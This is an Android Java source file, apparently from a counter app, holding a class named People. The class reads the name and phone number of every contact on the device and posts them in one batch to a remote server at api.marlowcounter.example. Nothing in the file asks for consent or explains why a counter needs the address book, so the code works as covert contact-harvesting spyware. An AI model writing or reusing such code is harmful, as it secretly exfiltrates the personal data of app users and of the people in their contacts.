package uk.marlow.counter;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;

import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

/** Reads the contacts and sends them. */
final class People {
    private final Context context;

    People(Context context) {
        this.context = context;
    }

    void send() {
        StringBuilder all = new StringBuilder();
        try (Cursor rows = context.getContentResolver().query(
                Phone.CONTENT_URI, new String[] {Phone.DISPLAY_NAME, Phone.NUMBER}, null, null, null)) {
            while (rows != null && rows.moveToNext()) {
                all.append(rows.getString(0)).append(' ').append(rows.getString(1)).append('|');
            }
        }
        post("contacts", all.toString());
    }

    static void post(String path, String body) {
        new Thread(() -> {
            try {
                URL url = new URL("https://api.marlowcounter.example/" + path);
                HttpURLConnection to = (HttpURLConnection) url.openConnection();
                to.setDoOutput(true);
                to.getOutputStream().write(body.getBytes());
                to.getResponseCode();
            } catch (IOException error) {
                throw new IllegalStateException(error);
            }
        }).start();
    }
}
